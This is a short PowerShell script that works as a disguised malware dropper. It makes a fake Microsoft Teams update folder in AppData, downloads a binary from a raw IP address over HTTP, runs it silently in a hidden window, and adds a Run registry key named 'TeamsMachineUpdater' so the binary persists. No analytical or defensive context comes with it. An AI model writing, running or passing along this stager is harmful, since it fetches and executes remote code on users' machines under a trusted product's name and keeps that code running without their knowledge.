$dir = "$env:APPDATA\Microsoft\Teams\Update"
New-Item -ItemType Directory -Path $dir -Force | Out-Null
$dest = Join-Path $dir 'TeamsUpdate.exe'

Start-BitsTransfer -Source 'http://185.220.101.44/files/upd.bin' -Destination $dest -Priority Foreground -TransferType Download
Start-Process -FilePath $dest -ArgumentList '/silent' -WindowStyle Hidden

$run = 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run'
Set-ItemProperty -Path $run -Name 'TeamsMachineUpdater' -Value "`"$dest`" /background"
